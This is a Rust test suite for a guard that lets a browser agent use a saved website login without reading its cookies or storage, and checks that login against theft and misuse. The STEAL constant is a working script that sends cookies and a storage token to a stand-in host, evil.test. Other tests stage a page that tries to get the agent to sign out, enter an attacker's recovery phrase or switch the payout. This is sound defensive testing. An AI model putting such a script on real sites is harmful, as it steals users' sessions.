//! Saved logins: made by hand once, then used by an agent that reads neither cookie nor storage, renewed and not poisoned. The site is a part
//! of the test, and knows its member by a cookie that no script sees. Each attack succeeds in a container without the saved login's rules.

use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use portcullis::audit::MemoryLog;
use portcullis::consent::{Answer, Asked, ConsentPrompt, ScriptedAnswerer};
use portcullis::guard::{Replaced, SystemEntropy, UserVault, VaultKey};
use portcullis::policy::{Policy, authority};
use portcullis::session::LoginByHand;
use portcullis::signals::playwright::{Browser, BrowserSettings};
use portcullis::signals::{ElementRef, Origin, Verb};
use portcullis::storage::SafeFolder;
use portcullis::storage::login_folder::LoginFolder;
use portcullis::storage::vault_file::VaultFile;
use portcullis::{Action, DEFAULT_POLICY, Guard, Session};
use tempfile::TempDir;
use vault::{KdfParams, Secret, Vault};

use crate::tls_sites::{Request, serve};

const HOST: &str = "members.test";
const ORIGIN: &str = "https://members.test";
const EVIL_HOST: &str = "evil.test";
const EVIL: &str = "https://evil.test";
const PASSPHRASE: &str = "correct horse battery staple";
const PATIENCE: Duration = Duration::from_secs(60);

/// The secrets of one run. Twin runs differ in nothing else.
#[derive(Clone, Copy)]
struct Secrets {
    /// The beginning of every session cookie.
    session: &'static str,
    /// The token in the local storage.
    stored: &'static str,
    /// The token in a cookie that scripts read.
    readable: &'static str,
}

impl Secrets {
    fn all(self) -> [&'static str; 3] {
        [self.session, self.stored, self.readable]
    }
}

const FIRST: Secrets = Secrets {
    session: "s3ss10n-opal-kettle-7",
    stored: "st0red-seven-green-kettles-4",
    readable: "r3adable-quarry-otter-31",
};
const SECOND: Secrets = Secrets {
    session: "z9qq77n-zinc-barrel-29",
    stored: "zz9red-eight-black-barrels-8",
    readable: "z7adable-meadow-hornet-9",
};

/// What a person does in the page of the login, by a script of the test's, and what the site keeps then.
const BY_HAND: &str =
    "fetch('/login', { method: 'POST', body: 'user=Marguerite' }).then(() => { location.href = '/kept'; })";
/// A page that shows what its scripts can read.
const ECHO: &str = "out.textContent = 'cookie ' + document.cookie + ' storage ' + localStorage.token";
/// Sends what scripts can read to another site, in each of several ways.
const STEAL: &str = "const all = encodeURIComponent(document.cookie + localStorage.token);\
    fetch('https://evil.test/fetch?' + all, { mode: 'no-cors' }).catch(() => 0);\
    new Image().src = 'https://evil.test/image?' + all; navigator.sendBeacon('https://evil.test/beacon', all);\
    setTimeout(() => { location.href = 'https://evil.test/gone?' + all; }, 300)";

#[derive(Default)]
struct Served {
    /// The session cookie that is good now.
    good: String,
    member: String,
    given: u64,
    /// Whether each page gives a new session cookie, and ends the one before.
    rotates: bool,
    /// The script of the page for strangers, and of the member's page.
    stranger: &'static str,
    script: &'static str,
    /// Whether the site takes everybody for its member.
    anybody: bool,
    arrived: Vec<String>,
}

struct Site {
    secrets: Secrets,
    served: Mutex<Served>,
}

impl Site {
    fn answer(&self, request: &Request) -> String {
        let (method, path) = request.line();
        let host = request.header("host").unwrap_or_default();
        let cookies = request.header("cookie").unwrap_or_default();
        let mut served = self.served.lock().unwrap();
        served.arrived.push(format!("{host} {method} {path} {cookies} {}", request.body));
        let page = |set: &str, body: &str| {
            let body = format!("<!doctype html><meta charset=utf-8><title>Members</title><body>{body}");
            let length = body.len();
            format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {length}\r\n{set}Connection: close\r\n\r\n{body}"
            )
        };
        let sid = |value: &str| {
            format!("Set-Cookie: sid={value}; Path=/; Secure; HttpOnly; SameSite=Lax; Max-Age=864000\r\n")
        };
        let begin = |served: &mut Served, member: &str| {
            served.given += 1;
            served.good = format!("{}-{:06}", self.secrets.session, served.given);
            served.member = member.to_owned();
            sid(&served.good)
        };
        if host != HOST {
            return page("", "<h1>Elsewhere</h1>");
        }
        if method == "POST" && path == "/login" {
            let member =
                request.body.split('&').next().unwrap_or_default().trim_start_matches("user=").to_owned();
            let set = begin(&mut served, &member);
            return page(&set, "<h1>Welcome</h1>");
        }
        if path == "/logout" {
            served.good = "of nobody".to_owned();
            return page(&sid("l0gged-out-l0gged-out"), "<h1>Bye</h1>");
        }
        let is_member = !served.good.is_empty() && cookies.contains(&format!("sid={}", served.good));
        if !is_member && !served.anybody {
            let form = "<h1>Please log in</h1><form method=post action=/login><label>User name <input name=user \
                autocomplete=username></label><label>Password <input type=password name=password></label>\
                <button>Log in</button></form>";
            return page("", &format!("{form}<script>{}</script>", served.stranger));
        }
        if path == "/kept" {
            let Secrets { stored, readable, .. } = self.secrets;
            let keeps = format!(
                "document.cookie = 'csrf={readable}; path=/; secure; max-age=864000'; document.cookie = 'theme=light; path=/';\
                 localStorage.token = '{stored}'; sessionStorage.tab = '1'; fetch('/ready')"
            );
            return page("", &format!("<h1>Hello</h1><script>{keeps}</script>"));
        }
        let member = served.member.clone();
        // The browser asks for the site's icon whenever it likes.
        let is_page = path == "/";
        let set = if served.rotates && is_page { begin(&mut served, &member) } else { String::new() };
        let body = format!(
            "<h1>Hello {member}</h1><p>Order 4711: one kettle</p><a href=/logout>Sign out</a>\
             <form method=post action=/save><label>Note <input name=note></label><button>Save note</button></form>\
             <form method=post action=/reach><label>Recovery phrase <input name=recovery></label><label>Payout <select name=payout>\
             <option>bank<option>wallet</select></label><label>Telephone <input name=tel></label><button>Save account</button></form>\
             <p id=out></p><script>{}</script>",
            served.script
        );
        page(&set, &body)
    }

    fn set(&self, change: impl FnOnce(&mut Served)) {
        change(&mut self.served.lock().unwrap());
    }

    fn arrived_at(&self, host: &str) -> Vec<String> {
        let served = self.served.lock().unwrap();
        served.arrived.iter().filter(|line| line.starts_with(host)).cloned().collect()
    }

    async fn until(&self, words: &str) {
        let began = Instant::now();
        while !self.served.lock().unwrap().arrived.iter().any(|line| line.contains(words)) {
            assert!(began.elapsed() < PATIENCE, "no {words} in {:?}", self.served.lock().unwrap().arrived);
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
}

/// The site, a browser's settings, and a vault with a saved login.
struct World {
    site: Arc<Site>,
    home: TempDir,
    settings: BrowserSettings,
}

impl World {
    async fn new(secrets: Secrets) -> World {
        let site = Arc::new(Site { secrets, served: Mutex::default() });
        site.set(|served| (served.stranger, served.script) = (BY_HAND, ECHO));
        let home = tempfile::tempdir().unwrap();
        let serving = site.clone();
        let settings =
            serve(home.path(), &[HOST, EVIL_HOST], move |request| Some(serving.answer(request))).await;
        let world = World { site, home, settings };
        world.save().await;
        world.site.set(|served| served.stranger = "");
        world
    }

    fn vault_path(&self) -> PathBuf {
        self.home.path().join("private/my.vault")
    }

    async fn browser(&self) -> Browser {
        Browser::launch_on_pipe(self.settings.clone()).await.unwrap()
    }

    /// The user logs in by hand, and the login is saved in a new vault.
    async fn save(&self) {
        let browser = self.browser().await;
        let login = LoginByHand::begin(&browser, &Origin::parse(ORIGIN).unwrap()).await.unwrap();
        self.site.until("GET /ready").await;
        let (state, not_taken) = login.take().await.unwrap();
        assert_eq!((not_taken.session_entries, not_taken.other_cookies), (1, 0));
        browser.close().await;

        let checked = Policy::parse(DEFAULT_POLICY).unwrap().compile().unwrap().check().unwrap();
        let (_, verifier) = authority(checked, [3; 16]);
        let passphrase = Secret::new(PASSPHRASE);
        let mut vault = Vault::create(&passphrase, &mut SystemEntropy, KdfParams::FLOOR, verifier).unwrap();
        let now = std::time::SystemTime::UNIX_EPOCH.elapsed().unwrap().as_millis();
        let sealed = vault.save_login(&state, 7, u64::try_from(now).unwrap(), &mut SystemEntropy).unwrap();
        SafeFolder::open_or_make(self.vault_path().parent().unwrap()).unwrap();
        let folder = LoginFolder::beside(&self.vault_path());
        folder.write(sealed.login.file, &sealed.bytes).unwrap();
        VaultFile::create(&self.vault_path(), &vault.to_bytes(&mut SystemEntropy).unwrap()).unwrap();
    }

    /// A guard with the user's vault, whose user gives this answer to the question about the saved login, and yes to all others.
    fn guard(&self, answer: Answer) -> (Guard, Arc<Mutex<Vec<String>>>, MemoryLog) {
        let prompts: Arc<Mutex<Vec<String>>> = Arc::default();
        let seen = prompts.clone();
        let user = ScriptedAnswerer(move |prompt: &ConsentPrompt| {
            seen.lock().unwrap().push(prompt.to_string());
            let is_about_it = prompt.asked.iter().any(|asked| matches!(asked, Asked::Restore { .. }));
            if is_about_it { answer } else { Answer::Once }
        });
        let file = VaultFile::open(&self.vault_path()).unwrap();
        let (bytes, passphrase, log) = (file.bytes().to_vec(), Secret::new(PASSPHRASE), MemoryLog::default());
        let vault = UserVault {
            bytes: &bytes,
            key: VaultKey::Passphrase(&passphrase),
            keeper: Some(Box::new(file)),
            replaced: Replaced::Log,
        };
        let log_of_guard = Box::new(log.clone());
        let guard =
            Guard::with_vault(DEFAULT_POLICY, vault, log_of_guard, Box::new(user), Box::new(SystemEntropy))
                .unwrap();
        (guard.with_logins(LoginFolder::beside(&self.vault_path())), prompts, log)
    }

    /// A task of an agent that opens the site and carries out these steps.
    async fn run(&self, answer: Answer, steps: &[Step]) -> Run {
        self.run_of(&format!("Log in at {ORIGIN}/ and tell me my last order"), answer, steps).await
    }

    async fn run_of(&self, prompt: &str, answer: Answer, steps: &[Step]) -> Run {
        let browser = self.browser().await;
        let (guard, prompts, log) = self.guard(answer);
        let mut session = Session::begin(guard, &browser, prompt).await.unwrap();
        let mut run = Run { logged_in: session.logged_in().is_some(), ..Run::default() };
        for step in steps {
            let act = match step {
                Step::Open(url) => Verb::Open { url: (*url).to_owned() },
                Step::Read => Verb::Read,
                Step::Wait => Verb::Wait { milliseconds: 600 },
                Step::Click(words) => Verb::click(find(&run, words)),
                Step::Type(words, text) => Verb::typed(find(&run, words), *text),
                Step::Select(words, option) => Verb::select(find(&run, words), *option),
            };
            run.answers.push(session.act(Action::Verb(act)).await.to_string());
        }
        session.finish().await;
        browser.close().await;
        run.prompts = std::mem::take(&mut *prompts.lock().unwrap());
        run.records = log.text();
        run
    }
}

enum Step {
    Open(&'static str),
    Read,
    Wait,
    Click(&'static str),
    Type(&'static str, &'static str),
    Select(&'static str, &'static str),
}

const HOME: [Step; 2] = [Step::Open("https://members.test/"), Step::Read];

/// What an agent's run showed.
#[derive(Default)]
struct Run {
    logged_in: bool,
    answers: Vec<String>,
    prompts: Vec<String>,
    records: String,
}

impl Run {
    fn text(&self) -> &str {
        self.answers.last().unwrap()
    }

    fn question(&self) -> Option<&String> {
        self.prompts.iter().find(|prompt| prompt.contains("saved login"))
    }

    fn tells_none_of(&self, secrets: Secrets) {
        for text in self.answers.iter().chain(&self.prompts).chain([&self.records]) {
            for secret in secrets.all() {
                assert!(!text.contains(secret), "{secret} in {text}");
            }
        }
    }
}

fn find(run: &Run, words: &str) -> ElementRef {
    let text = run.answers.iter().rev().find(|text| text.contains(words)).unwrap();
    let line = text.lines().find(|line| line.contains(words) && line.contains("[ref=")).unwrap();
    ElementRef(line.split_once("[ref=").unwrap().1.split(']').next().unwrap().to_owned())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_agent_uses_a_login_that_was_made_by_hand_and_reads_nothing_of_it() {
    let world = World::new(FIRST).await;
    // Guard and browser are new: the login survives both.
    let run = world.run(Answer::Once, &HOME).await;
    assert!(run.logged_in && run.text().contains("Hello Marguerite"), "{}", run.text());
    assert!(run.text().contains("Order 4711"), "{}", run.text());
    assert!(
        run.text().contains("csrf=[withheld]") && run.text().contains("storage [withheld]"),
        "{}",
        run.text()
    );
    run.tells_none_of(FIRST);
    let question = run.question().unwrap();
    for words in ["act as you until the end of this task", "members.test", "the saved login ends on"] {
        assert!(question.contains(words), "{question}");
    }
    let place = |event: &str| run.records.find(&format!("\"event\":\"{event}\"")).unwrap();
    assert!(place("login_restoring") < place("login_restored"));
    assert!(run.records.contains("\"failed\":null,\"origin\"") || run.records.contains("\"failed\":null"));

    // It is asked about every time, and without a yes the agent is a stranger.
    let no = world.run(Answer::No, &HOME).await;
    assert!(!no.logged_in && no.text().contains("Please log in"), "{}", no.text());
    assert!(no.question().is_some() && !no.records.contains("login_restor"));

    // No file has a secret, in any of the folders of vault and browser.
    for file in files(world.home.path()) {
        let bytes = std::fs::read(&file).unwrap_or_default();
        for secret in FIRST.all() {
            let found = bytes.windows(secret.len()).any(|part| part == secret.as_bytes());
            assert!(!found, "{secret} in {}", file.display());
        }
    }
}

fn files(folder: &std::path::Path) -> Vec<PathBuf> {
    let entries = std::fs::read_dir(folder).into_iter().flatten().flatten();
    entries
        .flat_map(|entry| if entry.path().is_dir() { files(&entry.path()) } else { vec![entry.path()] })
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn twin_runs_with_other_secrets_are_the_same_to_the_agent() {
    let mut answers = Vec::new();
    for secrets in [FIRST, SECOND] {
        let world = World::new(secrets).await;
        let run = world.run(Answer::Once, &HOME).await;
        run.tells_none_of(secrets);
        answers.push(run.answers);
    }
    assert_eq!(answers[0], answers[1]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_sends_no_part_of_the_login_to_another_site() {
    let world = World::new(FIRST).await;
    world.site.set(|served| served.script = STEAL);
    // The control: in the container of a login by hand, which has no such rules, it arrives.
    let steals = world.steal_without_rules().await;
    assert!(steals.iter().any(|line| line.contains(FIRST.readable)), "{steals:?}");

    world.site.set(|served| {
        served.arrived.clear();
        served.stranger = "";
    });
    let run = world.run(Answer::Once, &[Step::Open("https://members.test/"), Step::Wait, Step::Read]).await;
    assert!(run.logged_in, "{}", run.records);
    assert!(
        world.site.arrived_at(HOST).iter().any(|line| line.contains(FIRST.readable)),
        "the page was there"
    );
    assert_eq!(world.site.arrived_at(EVIL_HOST), Vec::<String>::new());
    run.tells_none_of(FIRST);
    // The agent is kept from there too.
    let run = world
        .run(Answer::Once, &[Step::Open("https://members.test/"), Step::Open("https://evil.test/")])
        .await;
    assert!(run.text().contains("outside_task") || run.text().contains("egress_blocked"), "{}", run.text());
    assert_eq!(world.site.arrived_at(EVIL_HOST), Vec::<String>::new());
}

/// In the control the task reaches both of its sites, since the user does not agree to the login.
#[tokio::test(flavor = "multi_thread")]
async fn a_container_with_a_login_reaches_no_other_site_of_the_task() {
    let world = World::new(FIRST).await;
    let prompt = format!("Log in at {ORIGIN}/ and compare with {EVIL}/");
    let steps = || [Step::Open("https://members.test/"), Step::Open("https://evil.test/")];
    for (answer, reached) in [(Answer::Once, 0), (Answer::No, 1)] {
        world.site.set(|served| served.arrived.clear());
        let run = world.run_of(&prompt, answer, &steps()).await;
        assert!(run.question().unwrap().contains("also not https://evil.test"), "{:?}", run.prompts);
        let arrived = world.site.arrived_at(EVIL_HOST).iter().filter(|line| line.contains("GET / ")).count();
        assert_eq!(arrived, reached, "{:?}", run.answers);
    }
}

/// Prints the time from the task's words to the open container, with a login and without.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "a measurement"]
async fn the_time_of_a_restore() {
    let world = World::new(FIRST).await;
    let browser = world.browser().await;
    let (guard, ..) = world.guard(Answer::Once);
    let mut times = [Vec::new(), Vec::new()];
    for round in 0..41 {
        for (with, prompt) in [(0, format!("Log in at {EVIL}/")), (1, format!("Log in at {ORIGIN}/"))] {
            let began = Instant::now();
            let session = Session::begin(guard.for_another_session(), &browser, &prompt).await.unwrap();
            let took = began.elapsed();
            assert_eq!(session.logged_in().is_some(), with == 1);
            session.finish().await;
            if round > 0 {
                times[with].push(took);
            }
        }
    }
    let median = |times: &mut Vec<Duration>| {
        times.sort();
        times[times.len() / 2]
    };
    let [without, with] = &mut times;
    let (without, with) = (median(without), median(with));
    println!("without a login {without:?}, with one {with:?}, more by {:?}", with - without);
    browser.close().await;
}

impl World {
    /// The same page in a container where a member logged in by hand.
    async fn steal_without_rules(&self) -> Vec<String> {
        self.site.set(|served| {
            served.arrived.clear();
            served.stranger = "fetch('/login', { method: 'POST', body: 'user=Marguerite' }).then(() => fetch('/kept')).then(() => { \
                document.cookie = 'csrf=r3adable-quarry-otter-31; path=/; secure'; location.reload(); })";
        });
        let browser = self.browser().await;
        let login = LoginByHand::begin(&browser, &Origin::parse(ORIGIN).unwrap()).await.unwrap();
        self.site.until("evil.test GET /gone").await;
        drop(login);
        browser.close().await;
        self.site.arrived_at(EVIL_HOST)
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_login_is_renewed_by_the_site_and_not_after_a_login_or_logout() {
    let world = World::new(FIRST).await;
    world.site.set(|served| served.rotates = true);
    // Each page ends the session before, so the second task works only with what the first one renewed.
    for task in 0..2 {
        let run = world.run(Answer::Once, &HOME).await;
        assert!(run.text().contains("Hello Marguerite"), "task {task}: {}", run.text());
        assert!(run.records.contains("login_renewed"), "task {task}: {}", run.records);
        run.tells_none_of(FIRST);
    }
    world.site.set(|served| served.rotates = false);
    let files = std::fs::read_dir(LoginFolder::beside(&world.vault_path()).path()).unwrap().count();
    assert_eq!(files, 1, "the earlier files are gone");

    // A page leads the agent to the link that ends the login. The site then sets another cookie, which is not kept.
    let out = [Step::Open("https://members.test/"), Step::Read, Step::Click("\"Sign out\""), Step::Read];
    let good = world.site.served.lock().unwrap().good.clone();
    let run = world.run(Answer::Once, &out).await;
    assert!(run.text().contains("Bye"), "{:?}", run.answers);
    assert!(!run.records.contains("login_renewed"), "{}", run.records);
    world.site.set(|served| (served.good, served.member) = (good.clone(), "Marguerite".to_owned()));
    assert!(world.run(Answer::Once, &HOME).await.text().contains("Hello Marguerite"));

    // Nor after an address that may have logged in somebody else by a token in it.
    world.site.set(|served| served.rotates = true);
    let magic = Step::Open("https://members.test/?k=8f2kq7lw91mzpqrt");
    let run = world.run(Answer::Once, &[magic, Step::Open("https://members.test/"), Step::Read]).await;
    assert!(run.text().contains("Hello Marguerite"), "{:?}", run.answers);
    assert!(!run.records.contains("login_renewed"), "{}", run.records);
    world.site.set(|served| (served.rotates, served.good) = (false, good.clone()));

    // An address that the agent opens ends the login too.
    let run = world.run(Answer::Once, &[Step::Open("https://members.test/logout"), Step::Read]).await;
    assert!(run.text().contains("Bye") && !run.records.contains("login_renewed"), "{:?}", run.answers);
    world.site.set(|served| (served.good, served.member) = (good, "Marguerite".to_owned()));
    assert!(world.run(Answer::Once, &HOME).await.text().contains("Hello Marguerite"));
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn a_renewal_that_cannot_be_written_is_recorded_and_leaves_the_login_as_it_was() {
    use std::fs::{Permissions, set_permissions};
    use std::os::unix::fs::PermissionsExt;

    let world = World::new(FIRST).await;
    let good = world.site.served.lock().unwrap().good.clone();
    let folder = LoginFolder::beside(&world.vault_path());
    let browser = world.browser().await;
    let (guard, _, log) = world.guard(Answer::Once);
    let prompt = format!("Log in at {ORIGIN}/ and tell me my last order");
    world.site.set(|served| served.rotates = true);
    let mut session = Session::begin(guard, &browser, &prompt).await.unwrap();
    let open = |url: &str| Action::Verb(Verb::Open { url: url.to_owned() });
    session.act(open("https://members.test/")).await;
    // The guard does not write into a folder that others can reach.
    set_permissions(folder.path(), Permissions::from_mode(0o777)).unwrap();
    let (_, guard) = session.finish().await;
    set_permissions(folder.path(), Permissions::from_mode(0o700)).unwrap();
    let failed = "\"event\":\"login_renewed\",\"failed\":\"value_damaged\"";
    assert!(log.text().contains(failed), "{}", log.text());

    world.site.set(|served| (served.rotates, served.good) = (false, good));
    let mut again = Session::begin(guard, &browser, &prompt).await.unwrap();
    assert!(again.logged_in().is_some(), "{}", log.text());
    again.act(open("https://members.test/")).await;
    let read = again.act(Action::Verb(Verb::Read)).await.to_string();
    assert!(read.contains("Hello Marguerite"), "{read}");
    again.finish().await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn two_tasks_do_not_use_a_login_at_once_and_another_site_gets_none() {
    let world = World::new(FIRST).await;
    let browser = world.browser().await;
    let (guard, prompts, _) = world.guard(Answer::Once);
    let second = guard.for_another_session();
    let prompt = format!("Log in at {ORIGIN}/ and tell me my last order");
    let one = Session::begin(guard, &browser, &prompt).await.unwrap();
    let asked = || prompts.lock().unwrap().iter().filter(|prompt| prompt.contains("saved login")).count();
    assert!(one.logged_in().is_some() && asked() == 1);
    let two = Session::begin(second, &browser, &prompt).await.unwrap();
    assert!(two.logged_in().is_none() && asked() == 1, "nobody is asked about a login that is in use");
    let (_, second) = two.finish().await;
    one.finish().await;
    let again = Session::begin(second.for_another_session(), &browser, &prompt).await.unwrap();
    assert!(again.logged_in().is_some());
    again.finish().await;
    for elsewhere in [format!("Log in at {EVIL}/"), format!("Tell me what {ORIGIN}/ sells")] {
        let other = Session::begin(second.for_another_session(), &browser, &elsewhere).await.unwrap();
        assert!(other.logged_in().is_none() && asked() == 2, "{elsewhere}");
        other.finish().await;
    }
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_damaged_file_or_a_site_without_its_certificate_leaves_a_task_without_the_login() {
    let world = World::new(FIRST).await;
    let folder = LoginFolder::beside(&world.vault_path());
    let file = std::fs::read_dir(folder.path()).unwrap().next().unwrap().unwrap().path();
    let bytes = std::fs::read(&file).unwrap();
    let mut changed = bytes.clone();
    changed[1_000] ^= 1;
    std::fs::write(&file, changed).unwrap();
    let run = world.run(Answer::Once, &HOME).await;
    assert!(!run.logged_in && run.text().contains("Please log in"), "{}", run.text());
    assert!(run.records.contains("\"failed\":\"value_damaged\""), "{}", run.records);
    std::fs::write(&file, bytes).unwrap();

    // The browser trusts the certificate no more.
    let mut settings = world.settings.clone();
    settings.home = Some(tempfile::tempdir().unwrap().keep());
    let distrusting = World { site: world.site.clone(), home: world.home, settings };
    let run = distrusting.run(Answer::Once, &HOME[..1]).await;
    assert!(!run.logged_in && run.records.contains("\"failed\":\"certificate_invalid\""), "{}", run.records);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_form_of_the_members_page_is_sent_without_a_question_about_the_cookies() {
    let world = World::new(FIRST).await;
    let steps = [
        Step::Open("https://members.test/"),
        Step::Read,
        Step::Type("\"Note\"", "one more kettle"),
        Step::Click("\"Save note\""),
        Step::Wait,
    ];
    let run = world.run(Answer::Once, &steps).await;
    world.site.until("POST /save").await;
    assert!(run.prompts.iter().all(|prompt| !prompt.contains("csrf")), "{:?}", run.prompts);
    assert!(world.site.arrived_at(HOST).iter().any(|line| line.contains("note=one+more+kettle")));
}

/// In the control the same controls are set where the container has no saved login.
#[tokio::test(flavor = "multi_thread")]
async fn the_agent_sets_no_control_by_which_the_account_is_reached() {
    let world = World::new(FIRST).await;
    let steps = || {
        [
            Step::Open("https://members.test/"),
            Step::Read,
            Step::Type("\"Recovery phrase\"", "of the attacker"),
            Step::Read,
            Step::Select("\"Payout\"", "wallet"),
        ]
    };
    let run = world.run(Answer::Once, &steps()).await;
    for at in [2, 4] {
        assert!(run.answers[at].contains("form_protected"), "{}", run.answers[at]);
    }
    // Every visitor is the member now.
    world.site.set(|served| served.anybody = true);
    let control = world.run(Answer::No, &steps()).await;
    for at in [2, 4] {
        assert!(!control.answers[at].contains("reason"), "{}", control.answers[at]);
    }
}
